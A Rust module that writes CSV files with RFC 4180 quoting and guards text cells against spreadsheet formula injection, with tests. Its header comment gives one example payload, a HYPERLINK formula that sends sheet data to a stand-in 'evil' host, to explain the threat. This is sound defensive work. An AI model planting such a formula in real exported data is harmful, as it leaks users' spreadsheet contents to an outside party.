//! CSV for spreadsheets, written one way for `dossier report --format csv` and the site's
//! `data/*.csv`: RFC 4180 quoting, and one guard against formulas in text cells.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or CR before
//! them) as a formula: `=HYPERLINK("http://evil/?"&A1, "click")` sends the sheet's data away.
//! Text cells that would start so get a `'` first, which spreadsheets read as "this is text".
//! Cells start in more places than the start of a field: Excel in the many locales whose list
//! separator is `;` splits a comma-separated file at every `;` (quotes only count at the start
//! of its cells), and at every line break. So the guard also applies after each `;` and line
//! break inside a text. Numbers are never guarded: `-12.5` stays a number.

use std::borrow::Cow;

use serde_json::Value;

/// What differs between the two kinds of file.
#[derive(Clone, Copy, Debug)]
pub struct Dialect {
    /// Starts with a UTF-8 byte order mark (Excel then reads Chinese text correctly).
    pub bom: bool,
    pub line_end: &'static str,
    /// Joins the items of a list cell.
    pub list_separator: &'static str,
}

/// A CSV document being written row by row.
pub struct Writer {
    out: String,
    dialect: Dialect,
    row_started: bool,
}

impl Writer {
    pub fn new(dialect: Dialect) -> Writer {
        Writer {
            out: if dialect.bom { "\u{feff}" } else { "" }.to_string(),
            dialect,
            row_started: false,
        }
    }

    /// A text cell: guarded against formulas, then quoted as needed.
    pub fn text(&mut self, text: &str) {
        if is_plain(text) {
            self.push_field(text);
        } else {
            self.push_field(&quote(&guard(text)));
        }
    }

    /// A number or a boolean as written (`-12.5`, `true`): quoted as needed, never guarded.
    pub fn literal(&mut self, literal: &str) {
        self.push_field(&quote(literal));
    }

    /// An integer, written in place (as a JSON number of it would be).
    pub fn integer(&mut self, n: impl Into<i64>) {
        self.number(n.into());
    }

    /// An empty cell (as a JSON null would be).
    pub fn empty(&mut self) {
        self.push_field("");
    }

    /// A JSON value: null empty, strings and lists (items joined) as text, numbers and
    /// booleans as literals.
    pub fn value(&mut self, value: &Value) {
        match value {
            Value::Null => self.push_field(""),
            Value::String(s) => self.text(s),
            Value::Array(items) => {
                let joined = items
                    .iter()
                    .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_string))
                    .collect::<Vec<_>>()
                    .join(self.dialect.list_separator);
                self.text(&joined);
            }
            other => self.number(other),
        }
    }

    /// A row of text cells (headers).
    pub fn text_row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) {
        for cell in cells {
            self.text(cell);
        }
        self.end_row();
    }

    pub fn end_row(&mut self) {
        self.out.push_str(self.dialect.line_end);
        self.row_started = false;
    }

    pub fn finish(self) -> String {
        self.out
    }

    /// A number or boolean, formatted into the row: it never needs quotes or a guard.
    fn number(&mut self, n: impl std::fmt::Display) {
        use std::fmt::Write as _;
        self.push_field("");
        let _ = write!(self.out, "{n}");
    }

    fn push_field(&mut self, field: &str) {
        if self.row_started {
            self.out.push(',');
        }
        self.out.push_str(field);
        self.row_started = true;
    }
}

/// A field per RFC 4180: in double quotes when it holds a comma, quote, CR or LF (or begins
/// or ends with a space), with quotes doubled.
fn quote(text: &str) -> Cow<'_, str> {
    let needs =
        text.contains([',', '"', '\n', '\r']) || text.starts_with(' ') || text.ends_with(' ');
    if needs {
        Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(text)
    }
}

/// Whether `text` is written as it is: nothing to quote and no cell start to guard (most
/// names, ids and URLs; the common case is checked without building anything).
fn is_plain(text: &str) -> bool {
    let bytes = text.as_bytes();
    let starts_plain = bytes
        .first()
        .is_none_or(|&b| !matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b' '));
    starts_plain
        && bytes.last() != Some(&b' ')
        && !bytes
            .iter()
            .any(|&b| matches!(b, b',' | b'"' | b'\n' | b'\r' | b';'))
}

/// Characters that make a spreadsheet cell a formula when they start it.
fn starts_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// `text` with a `'` before every formula start: at the start of the text, and after each
/// `;`, CR or LF (spaces after them skipped, in case a spreadsheet trims them).
fn guard(text: &str) -> Cow<'_, str> {
    let mut out: Option<String> = None;
    let mut cell_starts = true;
    for (i, c) in text.char_indices() {
        if cell_starts && starts_formula(c) {
            out.get_or_insert_with(|| text[..i].to_string()).push('\'');
        }
        if let Some(out) = &mut out {
            out.push(c);
        }
        cell_starts = matches!(c, ';' | '\n' | '\r') || (cell_starts && c == ' ');
    }
    out.map_or(Cow::Borrowed(text), Cow::Owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    const REPORT: Dialect = Dialect {
        bom: false,
        line_end: "\n",
        list_separator: "; ",
    };

    fn cell(write: impl FnOnce(&mut Writer)) -> String {
        let mut w = Writer::new(REPORT);
        write(&mut w);
        w.finish()
    }

    #[test]
    fn formula_starts_get_a_quote_mark() {
        assert_eq!(
            guard("=HYPERLINK(\"http://x\")"),
            "'=HYPERLINK(\"http://x\")"
        );
        for trigger in ["+1", "-1", "@SUM(A1)", "\t=1", "\r1"] {
            assert_eq!(guard(trigger), format!("'{trigger}"), "{trigger:?}");
        }
        // A CR both starts a formula and ends a row: the cell after it is guarded too.
        assert_eq!(guard("\r=1"), "'\r'=1");
        assert_eq!(guard("  =1"), "  '=1");
        assert_eq!(guard("华东电子"), "华东电子");
        assert!(matches!(guard("a-b=c@d"), Cow::Borrowed(_)));
    }

    #[test]
    fn every_place_a_cell_can_start_is_guarded() {
        // Excel with `;` as its list separator starts a cell after each `;` and line break.
        assert_eq!(guard("a;=1"), "a;'=1");
        assert_eq!(guard("a; =1;@x"), "a; '=1;'@x");
        assert_eq!(guard("a\n=1\r-2"), "a\n'=1\r'-2");
        assert_eq!(guard("a;b"), "a;b");
    }

    #[test]
    fn text_is_guarded_then_quoted_numbers_are_not_guarded() {
        assert_eq!(cell(|w| w.text("=1,2")), "\"'=1,2\"");
        assert_eq!(cell(|w| w.text("say \"hi\"")), "\"say \"\"hi\"\"\"");
        assert_eq!(cell(|w| w.text("two\nlines")), "\"two\nlines\"");
        assert_eq!(cell(|w| w.text(" x")), "\" x\"");
        assert_eq!(cell(|w| w.literal("-12.5")), "-12.5");
        assert_eq!(cell(|w| w.value(&serde_json::json!(-12.5))), "-12.5");
        assert_eq!(cell(|w| w.value(&serde_json::json!("-12.5"))), "'-12.5");
        assert_eq!(cell(|w| w.value(&Value::Null)), "");
        assert_eq!(cell(|w| w.value(&serde_json::json!(true))), "true");
        assert_eq!(cell(|w| w.value(&serde_json::json!(["a", "=b"]))), "a; '=b");
    }

    #[test]
    fn plain_text_is_written_as_it_is_and_nothing_else() {
        for plain in ["", "KH-1", "华东电子", "a-b=c@d", "x y", "https://x/a?b=1"] {
            assert!(is_plain(plain), "{plain:?}");
            assert_eq!(cell(|w| w.text(plain)), plain);
        }
        for special in [
            "=1",
            "-1",
            " x",
            "x ",
            "a,b",
            "a;b",
            "a\nb",
            "\tx",
            "say \"hi\"",
        ] {
            assert!(!is_plain(special), "{special:?}");
            assert_eq!(cell(|w| w.text(special)), quote(&guard(special)));
        }
    }

    proptest::proptest! {
        /// The shortcut never changes a cell: plain text is what guarding and quoting make.
        #[test]
        fn plain_text_needs_no_guard_and_no_quotes(text in "[ a=;,\"\r\n中-]{0,5}") {
            let guarded = guard(&text);
            let expected = quote(&guarded).into_owned();
            if is_plain(&text) {
                proptest::prop_assert_eq!(&expected, &text);
            }
            let mut w = Writer::new(REPORT);
            w.text(&text);
            proptest::prop_assert_eq!(w.finish(), expected);
        }
    }

    #[test]
    fn rows_and_dialects() {
        let mut w = Writer::new(Dialect {
            bom: true,
            line_end: "\r\n",
            list_separator: ";",
        });
        w.text_row(["id", "tags"]);
        w.text("KH-1");
        w.value(&serde_json::json!(["x", "-y"]));
        w.end_row();
        assert_eq!(w.finish(), "\u{feff}id,tags\r\nKH-1,x;'-y\r\n");
    }
}
